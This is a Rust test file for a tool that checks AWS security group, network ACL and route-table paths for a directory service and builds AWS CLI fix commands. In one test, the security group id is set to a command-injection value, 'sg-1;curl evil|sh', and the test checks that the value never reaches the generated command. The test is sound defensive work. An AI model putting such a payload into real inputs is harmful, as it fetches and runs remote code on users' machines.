//! The network checks assembled from what was read: statuses, details and the exact fixes.

use super::*;
use crate::aws::{AclEntry, DirectoryKind, DirectoryStage, Route, RuleAction, TableRole};
use crate::plan::example;

fn directory() -> Directory {
    Directory {
        id: "d-1234567890".to_owned(),
        name: "aws.corp.example.com".to_owned(),
        kind: DirectoryKind::MicrosoftAd,
        stage: DirectoryStage::Active,
        stage_reason: String::new(),
        dns_ips: vec![],
        vpc_id: Some("vpc-1".to_owned()),
        subnet_ids: vec!["subnet-a".to_owned(), "subnet-b".to_owned()],
        security_group_id: Some("sg-0abc".to_owned()),
        edition: Some("Standard".to_owned()),
        details: crate::aws::DirectoryDetails::default(),
    }
}

fn allow_all(egress: bool) -> AclEntry {
    AclEntry {
        rule_number: 100,
        protocol: "-1".to_owned(),
        action: RuleAction::Allow,
        direction: if egress {
            Direction::Outbound
        } else {
            Direction::Inbound
        },
        cidr: Some("0.0.0.0/0".to_owned()),
        ports: None,
    }
}

fn open_facts() -> NetworkFacts {
    NetworkFacts {
        egress: Some(Ok(vec![EgressRule {
            protocol: "-1".to_owned(),
            from_port: None,
            to_port: None,
            cidrs: vec!["0.0.0.0/0".to_owned()],
        }])),
        acls: Some(Ok(vec![NetworkAcl {
            id: "acl-1".to_owned(),
            vpc_id: "vpc-1".to_owned(),
            subnet_ids: vec!["subnet-a".to_owned(), "subnet-b".to_owned()],
            entries: vec![allow_all(true), allow_all(false)],
        }])),
        tables: Some(Ok(vec![RouteTable {
            id: "rtb-1".to_owned(),
            vpc_id: "vpc-1".to_owned(),
            role: TableRole::Main,
            subnet_ids: vec![],
            routes: vec![Route {
                destination: Some("10.0.0.0/16".to_owned()),
                target: RouteTarget::Local,
                state: "active".to_owned(),
            }],
        }])),
        ip_routes: None,
    }
}

fn status_of(checks: &[Check], id: CheckId) -> Status {
    checks
        .iter()
        .find(|c| c.id == id)
        .map(|c| c.status)
        .unwrap()
}

#[test]
fn an_open_path_passes_all_three() {
    let plan = example("trust.yaml");
    let checks = checks(&plan, &directory(), &open_facts());
    assert_eq!(checks.len(), 3);
    assert!(
        checks.iter().all(|c| c.status == Status::Pass),
        "{checks:#?}"
    );
    assert!(checks.iter().all(|c| c.domain == "corp.example.com"));
}

#[test]
fn a_closed_security_group_fails_with_the_exact_command() {
    let plan = example("ad-connector.yaml");
    let mut facts = open_facts();
    facts.egress = Some(Ok(vec![EgressRule {
        protocol: "tcp".to_owned(),
        from_port: Some(0),
        to_port: Some(65535),
        cidrs: vec!["10.0.0.0/24".to_owned()],
    }]));
    let checks = checks(&plan, &directory(), &facts);
    let sg = &checks[0];
    assert_eq!((sg.id, sg.status), (CheckId::NetworkSgEgress, Status::Fail));
    assert_eq!(sg.subject, "sg-0abc outbound to 10.0.0.10, 10.0.0.11");
    assert!(
        sg.detail
            .contains("no outbound rule allows UDP 53 to 10.0.0.10, 10.0.0.11"),
        "{}",
        sg.detail
    );
    let fix = sg.fix.as_deref().unwrap();
    assert!(
        fix.starts_with(
            "aws ec2 authorize-security-group-egress --group-id sg-0abc --ip-permissions \
             'IpProtocol=udp,FromPort=53,ToPort=53,IpRanges=[{CidrIp=10.0.0.10/32,Description=adsso-domain-controller},{CidrIp=10.0.0.11/32,Description=adsso-domain-controller}]' \
             'IpProtocol=udp,FromPort=88,ToPort=88,"
        ),
        "{fix}"
    );
    assert!(!fix.contains("IpProtocol=tcp"), "{fix}");
    assert!(
        fix.contains("Outbound rules -> Edit outbound rules"),
        "{fix}"
    );
}

#[test]
fn a_hostile_group_id_never_reaches_the_command() {
    let plan = example("ad-connector.yaml");
    let mut dir = directory();
    dir.security_group_id = Some("sg-1;curl evil|sh".to_owned());
    let mut facts = open_facts();
    facts.egress = Some(Ok(vec![]));
    let sg = &checks(&plan, &dir, &facts)[0];
    let fix = sg.fix.as_deref().unwrap();
    assert!(fix.contains("--group-id <sg-id>"), "{fix}");
    assert!(!fix.contains("curl"), "{fix}");
}

#[test]
fn a_nacl_deny_fails_naming_the_rule_and_a_free_number_below_it() {
    let plan = example("ad-connector.yaml");
    let mut facts = open_facts();
    if let Some(Ok(acls)) = &mut facts.acls {
        acls[0].entries.push(AclEntry {
            rule_number: 50,
            protocol: "17".to_owned(),
            action: RuleAction::Deny,
            direction: Direction::Outbound,
            cidr: Some("10.0.0.10/32".to_owned()),
            ports: Some((53, 53)),
        });
    }
    let nacl = &checks(&plan, &directory(), &facts)[1];
    assert_eq!((nacl.id, nacl.status), (CheckId::NetworkNacl, Status::Fail));
    assert_eq!(
        nacl.detail,
        "subnet-a (acl-1): UDP 53 outbound to 10.0.0.10 is dropped by deny rule 50\n\
         subnet-b (acl-1): UDP 53 outbound to 10.0.0.10 is dropped by deny rule 50"
    );
    let fix = nacl.fix.as_deref().unwrap();
    assert!(
        fix.starts_with(
            "aws ec2 create-network-acl-entry --network-acl-id acl-1 --egress --rule-number 49 \
             --protocol udp --port-range From=53,To=53 --cidr-block 10.0.0.10/32 --rule-action allow\nor"
        ),
        "{fix}"
    );
}

#[test]
fn missing_replies_fail_for_the_ephemeral_range() {
    let plan = example("ad-connector.yaml");
    let mut facts = open_facts();
    if let Some(Ok(acls)) = &mut facts.acls {
        acls[0].entries = vec![allow_all(true)];
    }
    let nacl = &checks(&plan, &directory(), &facts)[1];
    assert_eq!(nacl.status, Status::Fail);
    assert!(
        nacl.detail
            .contains("TCP 1024-65535 inbound from 10.0.0.10 is dropped by the final `*` rule"),
        "{}",
        nacl.detail
    );
    assert!(
        nacl.fix
            .as_deref()
            .unwrap()
            .contains("--ingress --rule-number 32766")
    );
}

#[test]
fn an_internet_gateway_for_a_private_server_fails_and_public_ones_need_ip_routes() {
    let mut plan = example("trust.yaml");
    plan.self_managed.all_mut()[0].dns_servers = vec!["203.0.113.10".to_owned()];
    let mut facts = open_facts();
    if let Some(Ok(tables)) = &mut facts.tables {
        tables[0].routes.push(Route {
            destination: Some("0.0.0.0/0".to_owned()),
            target: RouteTarget::InternetGateway("igw-1".to_owned()),
            state: "active".to_owned(),
        });
    }
    facts.ip_routes = Some(Ok(vec![]));
    let route = &checks(&plan, &directory(), &facts)[2];
    assert_eq!(
        (route.id, route.status),
        (CheckId::NetworkRoute, Status::Fail)
    );
    let fix = route.fix.as_deref().unwrap();
    assert!(
        fix.contains(
            "aws ds add-ip-routes --directory-id d-1234567890 --ip-routes CidrIp=203.0.113.10/32,Description=adsso-dns-server"
        ),
        "{fix}"
    );
    facts.ip_routes = Some(Ok(vec![IpRoute {
        cidr: "203.0.113.10/32".to_owned(),
        status: "Added".to_owned(),
    }]));
    let route = &checks(&plan, &directory(), &facts)[2];
    assert_eq!(route.status, Status::Warn, "{route:#?}");

    let private = example("trust.yaml");
    let route = &checks(&private, &directory(), &facts)[2];
    assert_eq!(
        route.status,
        Status::Pass,
        "10.0.0.x stays local: {route:#?}"
    );
}

#[test]
fn no_route_fails_and_an_unreadable_answer_warns() {
    let mut plan = example("ad-connector.yaml");
    plan.self_managed.all_mut()[0].dns_servers = vec!["192.168.5.5".to_owned()];
    let mut facts = open_facts();
    let route = &checks(&plan, &directory(), &facts)[2];
    assert_eq!(route.status, Status::Fail);
    assert!(
        route
            .detail
            .contains("subnet-a -> 192.168.5.5: no route holds this address")
    );
    facts.tables = Some(Err("AccessDenied".to_owned()));
    facts.acls = Some(Err("AccessDenied".to_owned()));
    let checks = checks(&plan, &directory(), &facts);
    assert_eq!(checks[1].status, Status::Warn);
    assert_eq!(checks[2].status, Status::Warn);
    assert!(
        checks[2]
            .fix
            .as_deref()
            .unwrap()
            .contains("ec2:DescribeRouteTables")
    );
}

#[test]
fn a_directory_without_group_or_subnets_is_skipped() {
    let plan = example("trust.yaml");
    let mut dir = directory();
    dir.security_group_id = None;
    dir.subnet_ids.clear();
    let checks = checks(&plan, &dir, &NetworkFacts::default());
    assert!(
        checks.iter().all(|c| c.status == Status::Skipped),
        "{checks:#?}"
    );
    assert_eq!(status_of(&checks, CheckId::NetworkRoute), Status::Skipped);
}
